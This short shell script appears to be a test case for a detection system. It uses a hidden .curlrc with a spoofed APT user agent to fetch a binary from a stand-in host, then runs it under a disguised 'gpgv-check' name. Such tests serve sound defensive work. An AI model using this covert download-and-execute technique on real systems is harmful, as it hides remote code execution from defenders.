#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/cache
printf 'url = "http://203.0.113.10/programs/marker"\noutput = "/srv/cache/%s"\nsilent\nuser-agent = "Debian APT-HTTP/1.3"\n' a.bin >/root/.curlrc
curl
rm /root/.curlrc; chmod 755 /srv/cache/a.bin
ln -s /srv/cache/a.bin /usr/local/bin/gpgv-check && gpgv-check
test -e /tmp/reached
took_place
